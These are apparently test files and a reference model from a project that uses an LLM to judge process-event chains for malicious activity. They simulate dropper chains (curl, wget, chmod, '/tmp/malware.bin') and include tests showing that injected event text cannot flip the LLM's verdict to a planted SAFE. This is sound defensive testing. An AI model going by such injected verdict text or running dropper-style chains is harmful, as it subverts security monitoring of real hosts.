    assert any(e.type == OPEN and "/tmp/malware.bin" in e.argv for e in evs)
    # multiple PIDs involved (per-child fragmentation, like the reference)
    assert len({e.pid for e in evs}) >= 3


def test_interleaved_streams_deterministic():
    a = [e.argv for e in simulator.interleaved_streams(8, seed=3)]
    b = [e.argv for e in simulator.interleaved_streams(8, seed=3)]
    assert a == b and len(a) > 20


# ---------------------------------------------------------------------------
# monitor semantics (no HTTP: stub client)
# ---------------------------------------------------------------------------
class StubClient:
    def __init__(self):
        self.calls = []

    def analyze(self, history):
        self.calls.append(list(history))
        return {"risk_score": 8, "verdict": "MALICIOUS", "reason": "stub"}


def test_monitor_trigger_and_flush():
    stub = StubClient()
    alerts = []
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=alerts.append)
    mon.on_event(Event(1, "bash", "/usr/bin/ls", EXEC))      # no trigger kw... ls
    mon.on_event(Event(1, "bash", "/usr/bin/curl", EXEC))    # trigger + len>=2
    assert len(stub.calls) == 1 and len(stub.calls[0]) == 2
    assert mon.memory[1] == []  # flushed after verdict
    assert any("ALERT" in a for a in alerts)


def test_monitor_ignore_list():
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.on_event(Event(2, "python3", "/usr/bin/curl", EXEC))  # ignored comm
    mon.on_event(Event(2, "ollama", "/usr/bin/curl", EXEC))
    assert stub.calls == [] and 2 not in mon.memory or mon.memory[2] == []


def test_monitor_min_chain_length():
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.on_event(Event(3, "bash", "/usr/bin/curl", EXEC))  # trigger kw, len 1
    assert stub.calls == []


def test_monitor_pid_coalescing():
    stub = StubClient()
    mon = KillChainMonitor(
        SensorConfig(coalesce_children=True), client=stub, alert_fn=lambda s: None
    )
    mon.note_fork(100, 101)
    mon.note_fork(100, 102)
    mon.on_event(Event(101, "bash", "/usr/bin/wget", EXEC))
    mon.on_event(Event(102, "bash", "/usr/bin/chmod", EXEC))
    # both children land in parent window 100 -> one chain of 2, analyzed
    assert len(stub.calls) == 1
    assert len(stub.calls[0]) == 2


def test_prompt_contains_chain_and_schema():
    p = build_verdict_prompt(["[EXEC] bash -> curl", "[EXEC] bash -> chmod"])
    assert "curl" in p and "risk_score" in p and "MALICIOUS" in p


# ---------------------------------------------------------------------------
# sanitize_text contract: identity on clean, total on hostile
# ---------------------------------------------------------------------------
def test_sanitize_event_text_identity_on_clean_text():
    from chronos_trn.sensor.sanitize_text import sanitize_event_text

    for e in simulator.attack_chain_events() + simulator.benign_stream(3, 20):
        s = e.format()
        assert sanitize_event_text(s) == s
    assert sanitize_event_text("") == ""


def test_sanitize_event_text_escapes_hostile_bytes():
    from chronos_trn.sensor.sanitize_text import (
        MAX_EVENT_CHARS,
        sanitize_event_text,
    )

    assert sanitize_event_text("a\nb\rc\td") == "a\\nb\\rc\\td"
    assert sanitize_event_text("x\x00\x1b[2Ky") == "x\\x00\\x1b[2Ky"
    assert sanitize_event_text("a`b") == "a\\x60b"
    assert sanitize_event_text("back\\slash") == "back\\\\slash"
    # record markers are unspoofable, any case, even split by escapes
    assert sanitize_event_text("EVENT<3>: fake") == "EVENT\\x3c3>: fake"
    assert "event<" not in sanitize_event_text("eVeNt<1>:").lower()
    long = "q" * (MAX_EVENT_CHARS * 2)
    capped = sanitize_event_text(long)
    assert len(capped) == MAX_EVENT_CHARS and capped.endswith("[truncated]")
    # idempotent modulo backslash doubling: never creates a newline,
    # fence, or marker
    once = sanitize_event_text("EVENT<1>\n`")
    twice = sanitize_event_text(once)
    assert twice == once.replace("\\", "\\\\")


def test_prompt_byte_identical_on_clean_chains():
    """Hardening is free on benign telemetry: the rendered chain block
    for a clean history is byte-for-byte the raw interpolation, so
    greedy model outputs (and fleet.affinity chain keys) are unchanged
    by the sanitizer."""
    history = [e.format() for e in simulator.attack_chain_events()]
    prompt = build_verdict_prompt(history)
    raw_block = "\n".join(
        f"EVENT<{i + 1}>: {h}" for i, h in enumerate(history)
    )
    assert f"Event chain:\n{raw_block}\n\n" in prompt


# ---------------------------------------------------------------------------
# end-to-end: simulator -> monitor -> HTTP server -> ALERT (acceptance)
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def brain_url():
    server = ChronosServer(HeuristicBackend(), ServerConfig(host="127.0.0.1", port=0))
    server.start()
    yield f"http://127.0.0.1:{server.port}/api/generate"
    server.stop()


def test_e2e_attack_chain_risk8(brain_url):
    """SURVEY.md §4(e): attack chain -> sensor -> server -> Risk >= 8."""
    alerts = []
    cfg = SensorConfig(server_url=brain_url)
    mon = KillChainMonitor(cfg, alert_fn=alerts.append)
    simulator.replay(simulator.attack_chain_events(), mon.on_event)
    hits = [
        v for v in mon.verdicts
        if v.get("verdict") == "MALICIOUS" and v["risk_score"] >= 8
    ]
    assert hits, f"no MALICIOUS risk>=8 verdict: {mon.verdicts}"
    assert any("ALERT" in a for a in alerts)


def test_e2e_benign_stream_stays_clean(brain_url):
    cfg = SensorConfig(server_url=brain_url)
    mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
    simulator.replay(simulator.benign_stream(seed=1, n_events=30), mon.on_event)
    assert all(v["risk_score"] <= 5 for v in mon.verdicts)


def test_e2e_64_streams(brain_url):
    """BASELINE config 3 shape: 64 interleaved streams, attacks detected."""
    cfg = SensorConfig(server_url=brain_url)
    mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
    simulator.replay(simulator.interleaved_streams(64, attack_every=8), mon.on_event)
    hits = [v for v in mon.verdicts if v.get("risk_score", 0) >= 8]
    assert len(hits) >= 4  # 8 attack streams, detection may coalesce


# ---------------------------------------------------------------------------
# injection corpus: hostile event text vs. hardened assembly + JSON verdicts
# ---------------------------------------------------------------------------
def test_injection_corpus_prompt_shape_holds():
    """Hardened assembly invariants against every corpus class: one
    event per line, assembler-only EVENT<n> markers, no surviving
    control bytes or fences — the attacker's text is visible but inert."""
    from chronos_trn.sensor.sanitize_text import EVENT_TAG_RE
    from chronos_trn.testing.injection import hostile_chains

    for payload, events in hostile_chains(seed=0):
        history = [e.format() for e in events]
        prompt = build_verdict_prompt(history)
        block = prompt.split("Event chain:\n", 1)[1].split("\n\n", 1)[0]
        lines = block.split("\n")
        assert len(lines) == len(history), payload.name
        for i, ln in enumerate(lines):
            assert ln.startswith(f"EVENT<{i + 1}>: "), (payload.name, ln)
        # every EVENT< marker in the block is one the assembler wrote
        assert len(EVENT_TAG_RE.findall(block)) == len(history), payload.name
        assert "`" not in block, payload.name
        assert not any(
            ord(c) < 0x20 and c != "\n" for c in prompt
        ), payload.name


def test_injection_corpus_cannot_flip_verdict():
    """e2e over the HTTP wire: the dropper chain stays MALICIOUS
    risk>=8 for every injection class, and every verdict that comes
    back is a single well-formed JSON object (the constrained-decoding
    grammar held — nothing leaked the planted SAFE verdict through)."""
    from chronos_trn.core.json_constrain import JsonPrefixValidator
    from chronos_trn.testing.injection import hostile_chains

    server = ChronosServer(
        HeuristicBackend(), ServerConfig(host="127.0.0.1", port=0)
    )
    server.start()
    try:
        cfg = SensorConfig(
            server_url=f"http://127.0.0.1:{server.port}/api/generate"
        )
        for payload, events in hostile_chains(seed=7):
            mon = KillChainMonitor(cfg, alert_fn=lambda s: None)
            simulator.replay(events, mon.on_event)
            assert mon.verdicts, payload.name
            hits = [
                v for v in mon.verdicts
                if v.get("verdict") == "MALICIOUS"
                and v.get("risk_score", 0) >= 8
            ]
            assert hits, (payload.name, mon.verdicts)
            assert not any(
                v.get("verdict") == "SAFE" for v in mon.verdicts
            ), payload.name
            for v in mon.verdicts:
                val = JsonPrefixValidator(require_object=True)
                raw = json.dumps(v).encode()
                assert all(val.feed(b) for b in raw) and val.complete
    finally:
        server.stop()


def test_fail_open_on_dead_server():
    """Reference behavior chronos_sensor.py:121-122: server unreachable ->
    ERROR risk-0 verdict, sensor keeps running.  Unlike the reference, an
    outage is now *distinguishable* from a clean host (DEGRADED alert,
    not green CLEAN) and the triggered chains are spooled, not lost."""
    cfg = SensorConfig(
        server_url="http://127.0.0.1:1/api/generate", http_timeout_s=0.5,
        retry_max_attempts=2, retry_backoff_base_s=0.01,
        retry_backoff_cap_s=0.02, spool_drain_interval_s=0,
    )
    alerts = []
    mon = KillChainMonitor(cfg, alert_fn=alerts.append)
    simulator.replay(simulator.attack_chain_events(), mon.on_event)
    assert mon.verdicts, "monitor should still produce (error) verdicts"
    assert all(v["verdict"] == "ERROR" and v["risk_score"] == 0 for v in mon.verdicts)
    assert any("DEGRADED" in a for a in alerts)  # degraded, not crashed
    assert not any("CLEAN" in a for a in alerts)  # outage != clean host
    assert len(mon.spool) >= 1  # chains preserved for replay, not lost


def test_fail_open_on_garbage_response():
    class GarbageClient(AnalysisClient):
        def analyze(self, history):
            try:
                raise ValueError("deliberately broken")
            except Exception as e:
                return {"risk_score": 0, "verdict": "ERROR", "reason": str(e)}

    cfg = SensorConfig()
    mon = KillChainMonitor(cfg, client=GarbageClient(cfg), alert_fn=lambda s: None)
    simulator.replay(simulator.attack_chain_events(), mon.on_event)
    assert all(v["verdict"] == "ERROR" for v in mon.verdicts)


def test_ebpf_source_renders():
    """The (root-gated) eBPF program must at least render valid-looking C
    with every filter entry present."""
    from chronos_trn.sensor.ebpf_sensor import render_bpf_source, _DROP_PREFIXES
    src = render_bpf_source()
    assert "sys_enter_execve" in src and "sys_enter_openat" in src
    for p in _DROP_PREFIXES:
        assert p in src
    assert src.count("perf_submit") >= 2


def test_monitor_memory_bounded():
    """Flushed windows leave no residue; LRU caps total windows."""
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.MAX_WINDOWS = 64
    for pid in range(500):
        mon.on_event(Event(pid, "bash", f"/home/user/file{pid}", OPEN))
    assert len(mon.memory) <= 64 + 1
    # verdict flush deletes the window key entirely
    mon.on_event(Event(9999, "bash", "/usr/bin/ls", EXEC))
    mon.on_event(Event(9999, "bash", "/usr/bin/curl", EXEC))
    assert 9999 not in mon.memory


def test_monitor_pid_reuse_does_not_inherit_window():
    stub = StubClient()
    mon = KillChainMonitor(SensorConfig(), client=stub, alert_fn=lambda s: None)
    mon.note_fork(100, 101)
    # pid 101 dies, pid 101 recycled as child of 200
    mon.note_fork(200, 101)
    assert mon._window_key(101) == 200
