"""Semantic triage cache (ISSUE 20): embedding, index, policy, kernel
dispatch, and scheduler wiring.

The fused similarity top-k kernel itself needs real NeuronCores; its
interp-parity tests run on the bass2jax CPU interpreter and skip when
concourse is absent.  Everything else — the XLA twin, the dispatch
eligibility gate, the policy's malicious-escalation hard rule, and the
scheduler hit/miss/insert paths — runs on plain CPU.
"""
import json
import types

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import model
from chronos_trn.ops import registry
from chronos_trn.semcache import SemCache, build_semcache
from chronos_trn.semcache.embed import normalize_embedding
from chronos_trn.semcache.index import SemIndex, xla_similarity_topk
from chronos_trn.semcache.policy import SemPolicy
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.tokenizer.bpe import ByteTokenizer

SAFE = {"risk_score": 1, "verdict": "SAFE", "reason": "routine admin"}
BAD = {"risk_score": 9, "verdict": "MALICIOUS", "reason": "dropper"}


# ---------------------------------------------------------------------------
# embedding normalization
# ---------------------------------------------------------------------------
def test_normalize_embedding_unit_norm_and_degenerate_inputs():
    v = normalize_embedding(np.arange(8, dtype=np.float32))
    assert v.dtype == np.float32
    np.testing.assert_allclose(np.linalg.norm(v), 1.0, rtol=1e-6)
    # zero and non-finite vectors collapse to the zero vector (cosine 0
    # against everything — never a spurious neighbor)
    assert not normalize_embedding(np.zeros(8)).any()
    assert not normalize_embedding(np.full(8, np.nan)).any()
    assert not normalize_embedding(np.full(8, np.inf)).any()


# ---------------------------------------------------------------------------
# XLA twin: the correctness oracle for the kernel
# ---------------------------------------------------------------------------
def test_xla_similarity_topk_matches_numpy():
    rng = np.random.default_rng(0)
    q = rng.normal(size=(3, 64)).astype(np.float32)
    lib = rng.normal(size=(64, 40)).astype(np.float32)
    vals, idx = xla_similarity_topk(jnp.asarray(q), jnp.asarray(lib), 5)
    scores = q @ lib
    want_idx = np.argsort(-scores, axis=1)[:, :5]
    np.testing.assert_array_equal(np.asarray(idx), want_idx)
    np.testing.assert_allclose(
        np.asarray(vals),
        np.take_along_axis(scores, want_idx, axis=1),
        rtol=1e-5,
    )
    assert np.asarray(idx).dtype == np.int32


# ---------------------------------------------------------------------------
# registry dispatch: eligibility gate + loud fallback reasons (CHR017)
# ---------------------------------------------------------------------------
def test_similarity_topk_ineligible_shapes_fall_back_loudly(monkeypatch):
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    rng = np.random.default_rng(1)

    def key(reason):
        return ('bass_fallbacks_total{op="similarity_topk",'
                f'reason="{reason}"}}')

    cases = (
        ("d_not_mult_128", (2, 96), 40, 4),     # D % 128 != 0
        ("batch_gt_128", (130, 128), 40, 4),    # B > 128
        ("k_gt_64", (2, 128), 200, 70),         # k out of range
        ("lib_smaller_than_k", (2, 128), 3, 4),  # N < k
    )
    for reason, qshape, n, k in cases:
        before = METRICS.snapshot().get(key(reason), 0)
        q = jnp.asarray(rng.normal(size=qshape), jnp.float32)
        lib = jnp.asarray(rng.normal(size=(qshape[1], n)), jnp.float32)
        vals, idx = registry.similarity_topk(q, lib, k=k)
        assert vals.shape == (qshape[0], min(k, n))
        assert METRICS.snapshot().get(key(reason), 0) == before + 1, reason
        assert registry.fallback_reasons()["similarity_topk"] == reason


def test_semindex_jitted_query_dispatches_bass_kernel(monkeypatch):
    """CHRONOS_BASS_FORCE=1 must change the *jitted* query graph: the
    index's top-k routes through the BASS kernel entry point (spied
    here; CPU has no NeuronCores) and numerics match the XLA twin."""
    from chronos_trn.ops import bass_similarity_topk

    calls = {"n": 0}

    def spy(q, lib_t, k):
        calls["n"] += 1
        return xla_similarity_topk(q, lib_t, k)

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    monkeypatch.setattr(
        bass_similarity_topk, "similarity_topk_bass", spy
    )
    idx = SemIndex(dim=128, capacity=64)
    rng = np.random.default_rng(2)
    rows = [normalize_embedding(rng.normal(size=128)) for _ in range(8)]
    for r in rows:
        idx.insert(r, dict(SAFE), tier="1b")
    vals, cols = idx.query(rows[3], k=4)
    assert calls["n"] >= 1, "jitted query never reached the BASS kernel"
    # top-1 is the row itself at cosine ~1 (bf16-resident rounding)
    assert cols[0] == 3
    np.testing.assert_allclose(vals[0], 1.0, atol=1e-2)

    # twin parity on the same index state with kernels off
    monkeypatch.setenv("CHRONOS_BASS_FORCE", "0")
    idx2 = SemIndex(dim=128, capacity=64)
    for r in rows:
        idx2.insert(r, dict(SAFE), tier="1b")
    vals2, cols2 = idx2.query(rows[3], k=4)
    np.testing.assert_array_equal(cols, cols2)
    np.testing.assert_allclose(vals, vals2, rtol=1e-5, atol=1e-5)


# ---------------------------------------------------------------------------
# BASS kernel interp parity (bass2jax CPU interpreter)
# ---------------------------------------------------------------------------
def test_bass_similarity_topk_interp_parity_f32():
    """Kernel vs XLA twin: f32 library, shapes cover a partial
    partition tile (B=3 < 128), two n-blocks with a partial trailer
    (N=520 = 512 + 8), and D=256 (two chained PSUM matmuls)."""
    pytest.importorskip("concourse.bass2jax")
    from chronos_trn.ops.bass_similarity_topk import similarity_topk_bass

    rng = np.random.default_rng(3)
    q = jnp.asarray(rng.normal(size=(3, 256)), jnp.float32)
    lib = jnp.asarray(rng.normal(size=(256, 520)), jnp.float32)
    vals, idx = similarity_topk_bass(q, lib, 5)
    want_v, want_i = xla_similarity_topk(q, lib, 5)
    np.testing.assert_array_equal(np.asarray(idx), np.asarray(want_i))
    np.testing.assert_allclose(
        np.asarray(vals), np.asarray(want_v), rtol=2e-5, atol=2e-5
    )


def test_bass_similarity_topk_interp_parity_single_partial_block():
    """N=40 < one n-block wide, k=8, B=1: the degenerate small-library
    shape the cache starts life with."""
    pytest.importorskip("concourse.bass2jax")
    from chronos_trn.ops.bass_similarity_topk import similarity_topk_bass

    rng = np.random.default_rng(4)
    q = jnp.asarray(rng.normal(size=(1, 128)), jnp.float32)
    lib = jnp.asarray(rng.normal(size=(128, 40)), jnp.float32)
    vals, idx = similarity_topk_bass(q, lib, 8)
    want_v, want_i = xla_similarity_topk(q, lib, 8)
    np.testing.assert_array_equal(np.asarray(idx), np.asarray(want_i))
    np.testing.assert_allclose(
        np.asarray(vals), np.asarray(want_v), rtol=2e-5, atol=2e-5
    )


def test_bass_similarity_topk_interp_parity_bf16():
    """bf16 resident library (the deployed layout): products accumulate
    in f32 on the PE, so ordering survives; values carry bf16 rounding."""
    pytest.importorskip("concourse.bass2jax")
    from chronos_trn.ops.bass_similarity_topk import similarity_topk_bass

    rng = np.random.default_rng(5)
    q = jnp.asarray(rng.normal(size=(2, 128)), jnp.float32)
    lib = jnp.asarray(rng.normal(size=(128, 300)), jnp.bfloat16)
    vals, idx = similarity_topk_bass(q, lib, 4)
    # twin fed the SAME bf16-rounded operands the kernel sees
    want_v, want_i = xla_similarity_topk(
        q.astype(jnp.bfloat16), lib, 4
    )
    np.testing.assert_array_equal(np.asarray(idx), np.asarray(want_i))
    np.testing.assert_allclose(
        np.asarray(vals), np.asarray(want_v), rtol=2e-2, atol=2e-2
    )


# ---------------------------------------------------------------------------
# resident index: ring eviction, metadata, int8 storage
# ---------------------------------------------------------------------------
def test_semindex_ring_eviction_and_metadata():
    idx = SemIndex(dim=64, capacity=4)
    rng = np.random.default_rng(6)
    rows = [normalize_embedding(rng.normal(size=64)) for _ in range(6)]
    evicted = [idx.insert(r, {**SAFE, "reason": f"row {i}"}, tier="1b")
               for i, r in enumerate(rows)]
    # first `capacity` inserts evict nothing; the ring then wraps
    assert evicted == [False, False, False, False, True, True]
    assert idx.size == 4
    # columns 0/1 now hold rows 4/5; their metadata followed the ring
    assert idx.lookup_meta(0)["reason"] == "row 4"
    assert idx.lookup_meta(1)["reason"] == "row 5"
    assert idx.lookup_meta(2)["reason"] == "row 2"
    # the overwritten row no longer matches itself
    vals, cols = idx.query(rows[0], k=1)
    assert vals[0] < 0.999


def test_semindex_int8_storage_stays_close():
    idx8 = SemIndex(dim=128, capacity=8, int8=True)
    idxf = SemIndex(dim=128, capacity=8)
    rng = np.random.default_rng(7)
    rows = [normalize_embedding(rng.normal(size=128)) for _ in range(5)]
    for r in rows:
        idx8.insert(r, dict(SAFE), tier="1b")
        idxf.insert(r, dict(SAFE), tier="1b")
    v8, c8 = idx8.query(rows[2], k=3)
    vf, cf = idxf.query(rows[2], k=3)
    np.testing.assert_array_equal(c8, cf)
    np.testing.assert_allclose(v8, vf, atol=0.02)


# ---------------------------------------------------------------------------
# policy: the malicious-escalation hard rule and consensus gates
# ---------------------------------------------------------------------------
def _index_with(rows_meta, dim=32, seed=8):
    """Index whose row i has cosine ``rows_meta[i][0]`` against the
    returned probe, with verdict metadata ``rows_meta[i][1]``."""
    rng = np.random.default_rng(seed)
    probe = normalize_embedding(rng.normal(size=dim))
    # orthonormal complement direction per row
    idx = SemIndex(dim=dim, capacity=len(rows_meta) + 1)
    for cos, meta in rows_meta:
        noise = rng.normal(size=dim)
        noise -= (noise @ probe) * probe
        noise = normalize_embedding(noise)
        row = cos * probe + np.sqrt(max(1 - cos * cos, 0.0)) * noise
        idx.insert(row.astype(np.float32), meta, tier="1b")
    return probe, idx


def test_policy_hit_requires_threshold_agreement_and_consensus():
    pol = SemPolicy(top_k=4, threshold=0.9, margin=0.05, min_agree=2)
    # two SAFE neighbors above threshold: hit
    probe, idx = _index_with([(0.97, dict(SAFE)), (0.94, dict(SAFE))])
    scores, cols = idx.query(probe, k=4)
    d = pol.decide(scores, cols, idx)
    assert d.hit and d.outcome == "hit"
    assert d.verdict["verdict"] == "SAFE"
    assert d.agree == 2
    # one neighbor only: below min_agree, miss
    probe, idx = _index_with([(0.97, dict(SAFE))], seed=9)
    scores, cols = idx.query(probe, k=4)
    d = pol.decide(scores, cols, idx)
    assert not d.hit and d.outcome == "miss"
    # top-1 below threshold: miss even with wide agreement
    probe, idx = _index_with(
        [(0.85, dict(SAFE)), (0.84, dict(SAFE)), (0.83, dict(SAFE))],
        seed=10,
    )
    scores, cols = idx.query(probe, k=4)
    assert not pol.decide(scores, cols, idx).hit
    # split labels in-band: no consensus, miss
    probe, idx = _index_with(
        [(0.97, dict(SAFE)), (0.96, {**SAFE, "verdict": "SUSPICIOUS"})],
        seed=11,
    )
    scores, cols = idx.query(probe, k=4)
    d = pol.decide(scores, cols, idx)
    assert not d.hit


def test_policy_malicious_neighborhood_always_escalates():
    """The hard rule: ANY non-SAFE verdict in the similarity band
    forces LLM escalation — even under overwhelming benign consensus
    (this is the poisoning-resistance backstop)."""
    pol = SemPolicy(top_k=4, threshold=0.9, margin=0.05, min_agree=2)
    probe, idx = _index_with(
        [(0.99, dict(SAFE)), (0.98, dict(SAFE)), (0.97, dict(BAD))],
        seed=12,
    )
    scores, cols = idx.query(probe, k=4)
    d = pol.decide(scores, cols, idx)
    assert not d.hit
    assert d.malicious_adjacent
    assert d.outcome == "escalate_malicious"
    # the same neighborhood WITHOUT the malicious row is a clean hit
    probe, idx = _index_with(
        [(0.99, dict(SAFE)), (0.98, dict(SAFE))], seed=12
    )
    scores, cols = idx.query(probe, k=4)
    assert pol.decide(scores, cols, idx).hit


def test_semcache_facade_lookup_insert_and_metrics():
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    sc = SemCache(dim=64, capacity=8, top_k=4, threshold=0.9,
                  margin=0.05, min_agree=2)
    rng = np.random.default_rng(13)
    v = rng.normal(size=64).astype(np.float32)
    before = METRICS.snapshot().get(
        'semcache_lookups_total{outcome="miss"}', 0)
    assert sc.lookup(v).outcome == "miss"
    assert METRICS.snapshot().get(
        'semcache_lookups_total{outcome="miss"}', 0) == before + 1
    sc.insert(v, dict(SAFE), tier="1b")
    sc.insert(v + rng.normal(size=64).astype(np.float32) * 0.01,
              dict(SAFE), tier="1b")
    d = sc.lookup(v)
    assert d.hit and d.verdict["verdict"] == "SAFE"
    st = sc.status()
    assert st["size"] == 2 and st["hits"] == 1
    # a malformed embedding must never raise out of the serving path
    assert sc.lookup(np.full(64, np.nan)).outcome == "miss"


def test_build_semcache_gated_by_config():
    ecfg = EngineConfig(semcache=False)
    assert build_semcache(64, ecfg) is None
    on = EngineConfig(semcache=True, semcache_capacity=16)
    sc = build_semcache(64, on)
    assert sc is not None and sc.status()["capacity"] == 16


# ---------------------------------------------------------------------------
# engine pooled seam + scheduler hit/miss/insert wiring
# ---------------------------------------------------------------------------
MCFG = ModelConfig.tiny()
CCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
ECFG = EngineConfig(max_batch_slots=4, prefill_buckets=(16, 32, 64),
                    max_new_tokens=32)


@pytest.fixture(scope="module")
def engine():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    eng = InferenceEngine(params, MCFG, CCFG, ECFG)
    eng.collect_pooled = True
    return eng


def test_engine_prefill_collects_pooled_embedding(engine):
    ids = [1, 2, 3, 4, 5]
    engine.prefill_seq(7000, ids)
    pooled = engine.last_pooled
    engine.release(7000)
    assert pooled is not None and pooled.shape == (MCFG.dim,)
    assert np.isfinite(pooled).all() and np.abs(pooled).sum() > 0
    # deterministic: the same chain embeds to the same point
    engine.prefill_seq(7001, ids)
    np.testing.assert_allclose(engine.last_pooled, pooled,
                               rtol=1e-5, atol=1e-5)
    engine.release(7001)


def test_engine_chunked_prefill_pools_consistently(engine):
    """A prompt longer than the largest bucket takes the chunked path;
    mean pooling must agree with what the one-shot path computes."""
    ids = list(np.arange(100) % 250)
    engine.prefill_seq(7002, ids)
    long_pooled = engine.last_pooled
    engine.release(7002)
    assert long_pooled is not None and long_pooled.shape == (MCFG.dim,)
    short = list(np.arange(30) % 250)
    engine.prefill_seq(7003, short)
    short_pooled = engine.last_pooled
    engine.release(7003)
    # different chains embed to different points
    assert np.abs(long_pooled - short_pooled).max() > 1e-4


def test_scheduler_semcache_hit_short_circuits(engine):
    """A prompt whose embedding sits inside a benign-consensus
    neighborhood is answered from the cache: source=semcache, zero
    decode steps, memoized verdict on the wire."""
    prompt = "EVENT1 [EXEC] bash -> /usr/bin/ls"
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    # same encode the scheduler's admission path performs
    ids = tok.encode(prompt, bos=True)
    engine.prefill_seq(7100, ids)
    pooled = engine.last_pooled
    engine.release(7100)

    sc = SemCache(dim=MCFG.dim, capacity=32, top_k=4, threshold=0.98,
                  margin=0.02, min_agree=2)
    verdict = {**SAFE, "reason": "directory listing"}
    sc.insert(pooled, dict(verdict), tier="1b")
    sc.insert(pooled, dict(verdict), tier="1b")

    sched = Scheduler(engine, tok, ECFG, semcache=sc, semcache_tier="1b")
    sched.start()
    try:
        req = sched.submit(prompt, GenOptions(max_new_tokens=8))
        text = req.result(timeout=120)
        assert req.source == "semcache"
        assert req.eval_count == 0
        assert req.sem_score is not None and req.sem_score > 0.98
        served = json.loads(text)
        assert served["verdict"] == "SAFE"
        # the memoized reason survives, prefixed with the match evidence
        assert "directory listing" in served["reason"]
        assert "2-way consensus" in served["reason"]
        assert req.ttft_s is not None and req.ttft_s > 0
        # slots fully drained: the hit released its sequence
        assert engine.active_count == 0

        # a far-away prompt misses and runs the model normally
        req2 = sched.submit("completely different chain text here",
                            GenOptions(max_new_tokens=4))
        req2.result(timeout=120)
        assert req2.source == "llm"
    finally:
        sched.stop()


def test_scheduler_semcache_miss_inserts_on_completion(engine):
    """The miss path inserts the finished verdict keyed by the
    prefill-time embedding — but only when the output IS a verdict."""
    sc = SemCache(dim=MCFG.dim, capacity=32)
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    sched = Scheduler(engine, tok, ECFG, semcache=sc, semcache_tier="1b")

    st = types.SimpleNamespace(
        req=types.SimpleNamespace(text=json.dumps(SAFE)),
        embedding=normalize_embedding(
            np.random.default_rng(14).normal(size=MCFG.dim)),
    )
    sched._semcache_insert(st)
    assert sc.status()["size"] == 1
    # non-verdict output (prose, truncated JSON) is never inserted
    st.req.text = "not json at all"
    sched._semcache_insert(st)
    st.req.text = json.dumps({"other": 1})
    sched._semcache_insert(st)
    assert sc.status()["size"] == 1
    # no embedding captured (prefix-cache-hit prefill): skipped
    st.req.text = json.dumps(SAFE)
    st.embedding = None
    sched._semcache_insert(st)
    assert sc.status()["size"] == 1


def test_labeled_corpus_shapes():
    """The MITRE mini-corpus: every chain is labeled, techniques and
    benign look-alikes are paired, and variants keep labels stable."""
    from chronos_trn.testing.corpus import chains, variants

    cs = chains(seed=0)
    assert len(cs) == 6
    mal = [c for c in cs if c.malicious]
    ben = [c for c in cs if not c.malicious]
    assert len(mal) == 3 and len(ben) == 3
    assert {c.mitre_id for c in mal} == {"T1105", "T1021", "T1053"}
    for c in cs:
        assert c.events, c.name
        assert all(e.type in ("EXEC", "OPEN") for e in c.events)
    # seeds vary dressing, never labels or names
    for a, b in zip(chains(seed=1), chains(seed=2)):
        assert a.name == b.name and a.label == b.label
    assert len(variants(3)) == 18
