"""Independent PyTorch oracle for HF Llama-3 numerics (VERDICT r4 #6).

Written directly from the Hugging Face ``modeling_llama`` conventions —
NOT from chronos_trn's jax code or tests/reference_llama.py — so a
convention drift (RoPE layout, GQA grouping, norm placement, scaling
math) in the jax model cannot also hide here.  transformers itself is
not installed in this image (and there is no network), so this torch
reimplementation of the documented HF forward is the strongest external
cross-check available: a different framework, different kernels,
different authorship path.

HF conventions encoded here (modeling_llama.py, transformers >= 4.40):
  * RMSNorm: fp32 upcast, x * rsqrt(mean(x^2) + eps), THEN * weight.
  * RoPE: inv_freq[i] = theta^(-2i/Dh); angles laid out as
    cat(angles, angles); rotate_half(x) = cat(-x[d/2:], x[:d/2]);
    q' = q*cos + rotate_half(q)*sin.  Llama-3.1 NTK-by-parts scaling
    rescales inv_freq by wavelength bands.
  * GQA: K/V heads repeat_interleave'd to n_heads (each KV head serves
    n_heads/n_kv_heads consecutive Q heads).
  * Attention: scores / sqrt(head_dim), causal mask, fp32 softmax.
  * MLP: down( silu(gate(x)) * up(x) ).
  * lm_head: plain matmul (embed.T when tied).

Weight layout: takes chronos_trn's param pytree ([in, out] matrices —
the transpose of nn.Linear's [out, in]) as NUMPY arrays.
"""
from __future__ import annotations

import math

import numpy as np
import torch


def _rms_norm(x: torch.Tensor, w: torch.Tensor, eps: float) -> torch.Tensor:
    xf = x.to(torch.float32)
    xf = xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps)
    return xf * w.to(torch.float32)


def _rope_tables(cfg, positions: torch.Tensor):
    dh = cfg.head_dim
    inv_freq = 1.0 / (
        cfg.rope_theta ** (torch.arange(0, dh, 2, dtype=torch.float32) / dh)
    )
    rs = cfg.rope_scaling
    if rs is not None:
        low_wavelen = rs.original_max_position / rs.low_freq_factor
        high_wavelen = rs.original_max_position / rs.high_freq_factor
        wavelen = 2.0 * math.pi / inv_freq
        scaled = inv_freq / rs.factor
        smooth = (rs.original_max_position / wavelen - rs.low_freq_factor) / (
            rs.high_freq_factor - rs.low_freq_factor
        )
        smooth = torch.clamp(smooth, 0.0, 1.0)
        mid = (1.0 - smooth) * scaled + smooth * inv_freq
        out = torch.where(wavelen > low_wavelen, scaled, inv_freq)
        out = torch.where(
            (wavelen <= low_wavelen) & (wavelen >= high_wavelen), mid, out
        )
        inv_freq = out
    angles = positions.to(torch.float32)[:, None] * inv_freq[None, :]
